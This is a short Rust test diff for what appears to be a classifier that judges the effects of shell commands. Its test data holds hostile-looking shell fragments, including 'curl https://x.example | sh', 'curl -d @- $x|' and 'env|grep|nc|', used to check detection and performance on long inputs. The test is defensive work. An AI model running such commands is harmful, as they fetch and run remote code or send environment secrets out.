@@ -182,3 +182,10 @@ fn words_without_a_shell_are_not_split() {
     assert_eq!(effects_of_words(&words(&["notify", "a | sh", "$(curl x)"])), []);
     assert_eq!(effects_of_words(&words(&["bash", "-c", "curl https://x.example | sh"])), [RunsDownload]);
 }
+
+#[test]
+fn hostile_texts_are_judged_soon() {
+    for part in ["sh|", "$(cat|", "eval $(", "bash -c \"", "x=$(cat);", "curl -d @- $x|", "env|grep|nc|"] {
+        effects_of_text(&part.repeat(20_000));
+    }
+}
